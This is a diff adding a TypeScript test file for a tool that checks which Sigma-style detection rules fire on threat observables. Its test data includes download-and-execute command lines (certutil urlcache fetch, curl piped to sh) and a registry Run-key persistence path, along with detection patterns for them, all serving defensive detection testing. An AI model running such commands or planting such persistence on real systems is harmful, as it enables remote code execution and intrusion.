@@ -1,0 +1,50 @@
+import { CorpusCoverage, eventTelemetryClass } from './corpus-coverage';
+
+const rule = (title: string, logsource: Record<string, string>, selection: Record<string, unknown>) =>
+  JSON.stringify({ title, logsource, detection: { selection, condition: 'selection' } });
+
+describe('corpus coverage of observables', () => {
+  const coverage = new CorpusCoverage<string>();
+  coverage.add(rule('certutil download', { category: 'process_creation', product: 'windows' }, { 'Image|endswith': '\\certutil.exe', 'CommandLine|contains': 'urlcache' }), 'certutil');
+  coverage.add(rule('any image missing .exe', { category: 'process_creation', product: 'windows' }, { 'Image|contains': '/' }), 'windows-only');
+  coverage.add(rule('curl piped to shell', { category: 'process_creation', product: 'linux' }, { 'CommandLine|contains|all': ['curl', '| sh'] }), 'curl-sh');
+  coverage.add(rule('script block with curl', { category: 'ps_script', product: 'windows' }, { 'ScriptBlockText|contains': 'curl' }), 'ps-script');
+  coverage.add(rule('Run key', { category: 'registry_set', product: 'windows' }, { 'TargetObject|contains': '\\CurrentVersion\\Run\\' }), 'run-key');
+  coverage.add('title: broken\ndetection: [not, a, mapping]', 'broken');
+
+  it('compiles what it can run and counts the rest', () => {
+    expect(coverage.size).toEqual({ rules: 5, skipped: 1 });
+  });
+
+  it('says which rules fire on which observable, and which observables none covers', () => {
+    const result = coverage.cover(
+      [
+        { type: 'cmdline', value: 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt' },
+        { type: 'registry_key', value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' },
+        { type: 'domain', value: 'update-check.example.net' },
+      ],
+      { product: 'windows' },
+    );
+    expect(result).toEqual([
+      { observable: 'cmdline: certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt', rules: ['certutil'] },
+      { observable: 'registry_key: HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', rules: ['run-key'] },
+      { observable: 'domain: update-check.example.net', rules: [] },
+    ]);
+  });
+
+  it('tries only rules of the article product and of the event telemetry class', () => {
+    const [linux] = coverage.cover([{ type: 'cmdline', value: 'curl -s http://203.0.113.9/sh | sh' }], { product: 'linux' });
+    // The Windows rule on images with a slash, and the PowerShell script-block rule, do not apply.
+    expect(linux?.rules).toEqual(['curl-sh']);
+    const [unknown] = coverage.cover([{ type: 'cmdline', value: 'curl -s http://203.0.113.9/sh | sh' }]);
+    expect(unknown?.rules).toEqual(['windows-only', 'curl-sh']);
+  });
+
+  it('knows the telemetry class of each synthetic event kind', () => {
+    expect([1, 13, 22, 3, 7045, 4698].map((EventID) => eventTelemetryClass({ EventID }))).toEqual([
+      'process_creation', 'registry', 'dns', 'network_connection', 'windows_system', 'windows_security',
+    ]);
+    expect(eventTelemetryClass({ 'cs-host': 'a.example' })).toBe('proxy');
+    expect(eventTelemetryClass({ Foo: 1 })).toBeNull();
+  });
+});
